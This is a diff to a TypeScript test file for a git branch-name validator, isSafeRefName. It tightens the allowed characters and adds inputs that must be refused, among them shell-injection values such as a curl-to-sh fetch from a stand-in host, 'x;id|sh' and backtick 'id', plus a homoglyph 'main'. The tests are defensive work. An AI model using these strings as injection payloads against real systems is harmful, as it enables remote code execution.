@@ -18,8 +18,12 @@ function gitAccepts(names: readonly string[]): boolean[] {
 const TRICKY =
   '/ . .. .lock @ @{ - // feature refs/ HEAD main a ~ ^ : ? * [ \\ 作業 🎉 b.c {'.split(' ');
 const piece = fc.oneof(
-  { weight: 6, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 4 }) },
-  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 3 }) },
+  { weight: 2, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 4 }) },
+  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 3 }) },
+  {
+    weight: 6,
+    arbitrary: fc.string({ unit: fc.constantFrom(...'aZ9._/+-'), minLength: 1, maxLength: 4 }),
+  },
   {
     weight: 6,
     arbitrary: fc.constantFrom(...TRICKY, ' ', '\t', '\n', '\x7f'),
@@ -34,12 +38,10 @@ const names = fc
 function isRefusedByUsAlone(name: string): boolean {
   return (
     name === 'HEAD' ||
-    name === '@' ||
     name.startsWith('refs/') ||
     name.toLowerCase() === 'main' ||
     name.toLowerCase().startsWith('main/') ||
-    Buffer.byteLength(name) > 200 ||
-    /[\p{C}\p{Z}]/u.test(name)
+    [...name].some((letter) => !'._/+-'.includes(letter) && !/[a-z0-9]/i.test(letter))
   );
 }
 
@@ -57,9 +59,8 @@ describe('isSafeRefName', () => {
     expect(passed).toBeLessThan(sample.length - 20);
   });
 
-  it.each(['feature/issue-7', 'fix', 'a.b/c', 'a@b', '作業/ログイン', 'maintenance', 'x-🎉'])(
-    'allows %j',
-    (name) => expect(isSafeRefName(name, 'main')).toBe(true),
+  it.each(['feature/issue-7', 'fix', 'a.b/c', 'c++', 'a_b-1', 'maintenance'])('allows %j', (name) =>
+    expect(isSafeRefName(name, 'main')).toBe(true),
   );
 
   const refusedByGit =
@@ -77,7 +78,23 @@ describe('isSafeRefName', () => {
     'a\u200bb',
     '\ud800',
     'x'.repeat(201),
-    'あ'.repeat(67),
+    'a@b',
+    '作業/ログイン',
+    'x-🎉',
+    '$(curl${IFS}evil.example|sh)',
+    'x;id|sh',
+    'x&id',
+    'a`id`',
+    'a"b',
+    "a'b",
+    'a$b',
+    'a>b',
+    'a%b',
+    'a!b',
+    'a#b',
+    'a=b',
+    'a,b',
+    'mаin',
     'a'.repeat(40),
   ])('refuses %j', (name) => expect(isSafeRefName(name, 'main')).toBe(false));
 
